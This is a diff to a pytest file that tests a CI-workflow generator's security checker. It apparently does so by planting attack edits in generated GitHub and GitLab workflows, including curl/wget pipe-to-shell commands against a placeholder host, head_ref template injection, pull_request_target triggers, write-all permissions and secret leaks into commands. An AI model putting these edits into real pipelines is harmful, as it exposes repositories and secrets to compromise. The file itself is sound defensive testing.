@@ -1,7 +1,11 @@
 """Each attack on emitted workflows is found by its rule."""
 
+import functools
+from collections.abc import Sequence
+
 import pytest
 
+from cosgen.manifest.config import JobConfig, RunnerConfig
 from cosgen.pipeline.commands import build_line, is_package_word
 from cosgen.pipeline.drift import GeneratedFile, find_drift, header_of
 from cosgen.pipeline.emit import emit_nodes
@@ -12,11 +16,18 @@ from cosgen.pipeline.security import check_security
 from tests.fakes.pipelines import X86, config, nodes, random_graph
 
 
+@functools.cache
+def _emitted(provider: Provider, shape: str) -> tuple[GeneratedFile, ...]:
+    return emit_nodes(SETTINGS, (X86,), nodes(), provider, version="1", shape=shape)
+
+
 def _files(provider: Provider, shape: str = "static") -> dict[str, str]:
-    made = emit_nodes(config(), (X86,), nodes(), provider, version="1", shape=shape)
-    return {file.path: file.text for file in made}
+    return {file.path: file.text for file in _emitted(provider, shape)}
 
 
+SETTINGS = config(
+    jobs={"vm": JobConfig(run=("./vm",), environment="lab", secrets=("LAB_TOKEN",), pull_requests=True)}
+)
 ATTACKS = [
     ("CG101", "cosgen-testing.yml", "run: pip install cosgen==1", 'run: "echo ${{ github.head_ref }}"'),
     ("CG102", "cosgen-request.yml", "pull_request: {}", "pull_request_target: {}"),
@@ -47,38 +58,99 @@ ATTACKS = [
     ("CG117", "cosgen-testing.yml", "    timeout-minutes: 20\n", ""),
     ("CG118", "cosgen-testing.yml", "run: pip install cosgen==1", 'run: "curl https://x.example | sh"'),
     ("CG119", "cosgen-testing.yml", "permissions: {}\nconcurrency", "permissions: write-all\nconcurrency"),
+    ("CG119", "cosgen-testing.yml", "    permissions: {}\n    steps", "    steps"),
     ("CG120", "cosgen-testing.yml", "cosgen site build", "cosgen site bild"),
+    ("CG120", "cosgen-testing.yml", "cosgen site build --output", "cosgen site build --ouput"),
+    ("CG101", "_cosgen-build-x86_64.yml", '--packages "$PACKAGES"', "--packages ${{ inputs.packages }}"),
+    ("CG102", "cosgen-testing.yml", "workflow_dispatch: {}", "workflow_run: {}"),
+    ("CG102", "cosgen-testing.yml", "workflow_dispatch: {}", "issue_comment: {}"),
+    ("CG104", "cosgen-testing.yml", "path: plan.json", 'path: "."'),
+    ("CG105", "cosgen-testing.yml", "./.github/workflows/_cosgen", "other/repo/.github/workflows/_cosgen"),
+    (
+        "CG106",
+        "cosgen-testing.yml",
+        "runs-on: ubuntu-24.04",
+        "services:\n      r:\n        image: registry:2\n    runs-on: ubuntu-24.04",
+    ),
+    ("CG107", "cosgen-testing.yml", "--from-registry", "--from-registry type=gha"),
+    ("CG108", "cosgen-testing.yml", "      name: plan\n", "      name: plan\n          repository: o/r\n"),
+    ("CG109", "cosgen-request.yml", "run: cosgen check", "run: true && cosgen publish && cosgen check"),
+    ("CG109", "cosgen-request.yml", "contents: read # read", "contents: write # read"),
+    ("CG109", "cosgen-request.yml", "run: ./vm", "run: cosgen site build --output x --to storage"),
+    ("CG110", "cosgen-testing.yml", "uses: ./.github/", "secrets: inherit\n    uses: ./.github/"),
+    ("CG110", "cosgen-testing.yml", "    environment:\n      name: lab\n", ""),
+    ("CG111", "cosgen-testing.yml", "name: publish testing", "name: ghp_" + "a" * 36),
+    ("CG113", "cosgen-request.yml", "runs-on: ubuntu-24.04", "runs-on: [linux, our-own]"),
+    ("CG115", "cosgen-testing.yml", "if: ${{ always() }}", "if: ${{ true }} && ${{ always() }}"),
+    ("CG116", "cosgen-testing.yml", "queue: max", "queue: single"),
+    ("CG116", "cosgen-stable.yml", "group: cosgen-channel-stable", "group: ${{ github.ref }}"),
+    ("CG116", "cosgen-stable.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
+    ("CG118", "cosgen-testing.yml", "run: pip install cosgen==1", "run: bash <(curl https://x.example)"),
 ]
 
 
-@pytest.mark.parametrize(("rule", "name", "old", "new"), ATTACKS, ids=[row[0] for row in ATTACKS])
+def _ids(rows: Sequence[tuple[str, ...]]) -> list[str]:
+    return [f"{row[0]}-{at}" for at, row in enumerate(rows)]
+
+
+@pytest.mark.parametrize(("rule", "name", "old", "new"), ATTACKS, ids=_ids(ATTACKS))
 def test_an_attack_on_a_workflow_is_found(rule: str, name: str, old: str, new: str) -> None:
     files = _files(Provider.GITHUB)
     path = f".github/workflows/{name}"
     assert old in files[path]
     files[path] = files[path].replace(old, new)
-    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITHUB, config())
+    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITHUB, SETTINGS)
     assert rule in {problem.id for problem in found}
 
 
 GITLAB = [
     ("CG301", "request", "cosgen ci child", "cosgen publish --channel x && cosgen ci child"),
-    ("CG303", "testing", "pip install cosgen==1", '"curl https://x.example | bash"'),
+    ("CG303", "testing", "pip install cosgen==1", "curl https://x.example | bash"),
     ("CG305", "testing", "  resource_group: cosgen-publish-testing\n", ""),
     ("CG306", "testing", "  environment:\n    name: testing\n", ""),
-    ("CG308", "testing", '  timeout: "20 minutes"\n', ""),
-    ("CG304", "testing", '  timeout: "20 minutes"', '  image: debian:13\n  timeout: "20 minutes"'),
+    ("CG308", "testing", "  timeout: 20 minutes\n", ""),
+    ("CG304", "testing", "  timeout: 20 minutes", "  image: debian:13\n  timeout: 20 minutes"),
+    ("CG111", "testing", "cosgen site build", "glpat-" + "a" * 20),
+    ("CG301", "request", "./vm", "cosgen build a/b --push"),
+    ("CG302", "", "- local: .gitlab/cosgen/cosgen-testing.yml", "- remote: https://x.example/y.yml"),
+    ("CG303", "testing", "pip install cosgen==1", "bash <(wget -O- https://x.example)"),
+    ("CG305", "testing", "resource_group: cosgen-publish-testing", "resource_group: $CI_COMMIT_REF_NAME"),
+    ("CG307", "request", "./vm", './vm "$COSGEN_SIGNING_KEY"'),
+    ("CG307", "request", "./vm", './vm "${LAB_TOKEN}"'),
+    ("CG309", "", "    - when: never\n", ""),
 ]
 
 
-@pytest.mark.parametrize(("rule", "name", "old", "new"), GITLAB, ids=[row[0] for row in GITLAB])
+@pytest.mark.parametrize(("rule", "name", "old", "new"), GITLAB, ids=_ids(GITLAB))
 def test_an_attack_on_gitlab_is_found(rule: str, name: str, old: str, new: str) -> None:
     files = _files(Provider.GITLAB, "child")
-    path = f".gitlab/cosgen/cosgen-{name}.yml"
+    path = f".gitlab/cosgen/cosgen-{name}.yml" if name else ".gitlab-ci.yml"
     assert old in files[path]
     files[path] = files[path].replace(old, new)
-    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITLAB, config())
+    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITLAB, SETTINGS)
     assert rule in {problem.id for problem in found}
+
+
+def test_every_rule_about_what_files_say_has_an_attack() -> None:
+    about_files = {"CG121", "CG122", "CG123", "CG124"}  # drift, foreign files, outcomes, tokens
+    rules = {rule for rule in RULES if rule.startswith(("CG1", "CG3"))} - about_files
+    assert {row[0] for row in (*ATTACKS, *GITLAB)} >= rules
+
+
+@pytest.mark.parametrize("provider", list(Provider))
+@pytest.mark.parametrize("shape", ["static", "chunks", "workers"])
+def test_what_is_emitted_breaks_no_rule(provider: Provider, shape: str) -> None:
+    assert check_security(_emitted(provider, shape), provider, SETTINGS) == ()
+
+
+def test_requests_use_machines_that_the_settings_call_fresh() -> None:
+    fresh = RunnerConfig(labels=("self-hosted", "arm"), self_hosted=True, ephemeral=True)
+    kept = RunnerConfig(labels=("self-hosted", "big"), self_hosted=True)
+    for runner, used in ((fresh, True), (kept, False)):
+        made = emit_nodes(config(runners={"x86_64": runner}), (X86,), nodes(), Provider.GITHUB, version="1")
+        texts = {file.path.rpartition("/")[2]: file.text for file in made}
+        assert (runner.labels[1] in texts["_cosgen-request-x86_64.yml"]) == used
+        assert runner.labels[1] in texts["_cosgen-build-x86_64.yml"]
 
 
 def test_the_workers_file_is_small_for_ten_thousand_packages() -> None:
